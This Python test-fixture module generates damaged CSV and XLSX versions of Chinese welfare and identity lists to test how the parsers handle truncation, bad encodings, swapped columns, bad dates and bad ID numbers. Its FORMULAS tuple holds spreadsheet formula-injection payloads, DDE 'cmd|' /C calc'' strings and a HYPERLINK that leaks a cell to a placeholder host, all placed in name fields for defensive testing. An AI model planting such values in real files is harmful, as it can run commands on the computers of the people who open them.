"""Lists as nobody should send them: some three hundred damaged files, made anew from a seed.

`of_a_kind` yields those damaged within their rows or cut; what no reader takes is in `damaged_archives.py`. `ends`
says how each has to end: as a file nobody can read ("file"), as a plan with problems
named row by row or sent back as a whole ("rows"), or either way where chance decides ("any").
"""

import csv
import io
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from exchange.parsers.forms import Form
from exchange.parsers.writer import write_xlsx
from hardship.parsers.deaths import FORM as DEATHS
from hardship.parsers.kinds import IDENTITY_LISTS
from tests.registry.factories import identity_number

SEED = 20250331
PEOPLE = 12
FORMS: dict[str, Form] = {kind: each.form for kind, each in IDENTITY_LISTS.items()} | {"deaths": DEATHS}
FILLED = {
    "identity": "低保对象",
    "household": "990100000001",
    "household_type": "脱贫户",
    "exit_year": "2019",
    "since": "202403",
    "died_on": "2025-03-08",
    "eliminated": "否",
}
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
)
BAD_DAYS = ("2025-02-30", "-45000", "1e9", "昨天", "99999999", "2024.1")


@dataclass(frozen=True, slots=True)
class Damaged:
    """A file, how it was damaged, and how reading it ends."""

    damage: str
    kind: str
    file_name: str
    content: bytes
    ends: str


def of_a_kind(kind: str) -> Iterator[Damaged]:
    """Yield the damaged lists of one kind; the same ones each time."""
    dice = random.Random(SEED)  # noqa: S311 - the same files each time
    for make in PER_KIND:
        yield from make(kind, dice)


def table(kind: str) -> tuple[list[str], list[list[str]]]:
    """Return headings and lines of a sound list."""
    form = FORMS[kind]
    columns = {column.field: column.aliases[0] for column in form.read}
    rows = []
    for serial in range(PEOPLE):
        line = {columns[field]: said for field, said in FILLED.items() if field in columns}
        number = identity_number(serial)
        line |= {columns["name"]: f"人{serial}"}
        if key_of(kind) == "certificate":
            line |= {columns["certificate"]: f"{number}42"}
        else:
            line |= {columns["id_number"]: number}
        rows.append([line.get(heading, "") for heading in form.headings])
    return list(form.headings), rows


def as_csv(headings: list[str], rows: list[list[str]], *, encoding: str = "utf-8-sig") -> bytes:
    stream = io.StringIO()
    csv.writer(stream).writerows([headings, *rows])
    return stream.getvalue().encode(encoding)


def place_of(kind: str, field: str) -> int:
    """Return where a column is."""
    form = FORMS[kind]
    heading = next(column.aliases[0] for column in form.read if column.field == field)
    return form.headings.index(heading)


def key_of(kind: str) -> str:
    return next(column.field for column in FORMS[kind].read if column.is_key)


def day_of(kind: str) -> str | None:
    fields = {column.field for column in FORMS[kind].read}
    return next((name for name in ("died_on", "since", "exit_year", "until") if name in fields), None)


def truncated(kind: str, dice: random.Random) -> Iterator[Damaged]:
    headings, rows = table(kind)
    whole = write_xlsx(headings, rows)
    for part in (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.97, 0.999):
        yield Damaged("truncated xlsx", kind, "断.xlsx", whole[: int(len(whole) * part)], "file")
    for encoding in ("utf-8", "gb18030"):
        text = as_csv(headings, rows, encoding=encoding)
        for _ in range(3):
            yield Damaged("truncated csv", kind, "断.csv", text[: dice.randrange(1, len(text))], "any")


def wrongly_encoded(kind: str, dice: random.Random) -> Iterator[Damaged]:
    headings, rows = table(kind)
    text = as_csv(headings, rows, encoding="utf-8")
    yield Damaged("no byte mark", kind, "码.csv", text.decode().encode("utf-16-le"), "file")
    yield Damaged("read twice", kind, "码.csv", text.decode("latin-1").encode(), "file")
    yield Damaged("utf-7", kind, "码.csv", text.decode().encode("utf-7"), "file")
    yield Damaged("wrong mark", kind, "码.csv", b"\xef\xbb\xbf" + text.decode().encode("gbk"), "file")


def swapped(kind: str, dice: random.Random) -> Iterator[Damaged]:
    pairs = [("name", key_of(kind))] + ([(day, "name")] if (day := day_of(kind)) else [])
    for one, other in pairs:
        headings, rows = table(kind)
        here, there = place_of(kind, one), place_of(kind, other)
        for row in rows:
            row[here], row[there] = row[there], row[here]
        yield Damaged(f"{one} and {other} swapped", kind, "错栏.xlsx", write_xlsx(headings, rows), "rows")
        yield Damaged(f"{one} and {other} swapped", kind, "错栏.csv", as_csv(headings, rows), "rows")


def repeated(kind: str, dice: random.Random) -> Iterator[Damaged]:
    headings, rows = table(kind)
    yield Damaged("duplicate rows", kind, "重复.xlsx", write_xlsx(headings, [*rows, *rows]), "rows")
    others = [list(row) for row in rows]
    for row in others:
        row[place_of(kind, "name")] = "另一人"
    yield Damaged("contradictory rows", kind, "矛盾.csv", as_csv(headings, [*rows, *others]), "rows")


def injected(kind: str, dice: random.Random) -> Iterator[Damaged]:
    for formula in FORMULAS:
        headings, rows = table(kind)
        for row in rows[::3]:
            row[place_of(kind, "name")] = formula
        yield Damaged("formula as a name", kind, "公式.csv", as_csv(headings, rows), "rows")
        yield Damaged("formula as a name", kind, "公式.xlsx", write_xlsx(headings, rows), "rows")


def misdated(kind: str, dice: random.Random) -> Iterator[Damaged]:
    day = day_of(kind)
    bad_days = [bad for bad in BAD_DAYS if day != "exit_year" or not bad.startswith("202")]
    for bad in bad_days if day else ():
        headings, rows = table(kind)
        rows[3][place_of(kind, day or "")] = bad
        yield Damaged(f"date {bad}", kind, "日期.csv", as_csv(headings, rows, encoding="gb18030"), "rows")


def misnumbered(kind: str, dice: random.Random) -> Iterator[Damaged]:
    key = place_of(kind, key_of(kind))
    for bad in ("2.30199E+17", "-230199196503010428", "23019919650301042", "230199196513010428", "无", "'--"):
        headings, rows = table(kind)
        rows[2][key] = bad
        yield Damaged(f"number {bad}", kind, "证号.xlsx", write_xlsx(headings, rows), "rows")


def flipped(kind: str, dice: random.Random) -> Iterator[Damaged]:
    whole = write_xlsx(*table(kind))
    for _ in range(5):
        content = bytearray(whole)
        for _ in range(20):
            content[dice.randrange(len(content))] ^= 1 << dice.randrange(8)
        yield Damaged("flipped bits", kind, "坏.xlsx", bytes(content), "any")


PER_KIND: tuple[Callable[[str, random.Random], Iterator[Damaged]], ...] = (
    truncated,
    wrongly_encoded,
    swapped,
    repeated,
    injected,
    misdated,
    misnumbered,
    flipped,
)
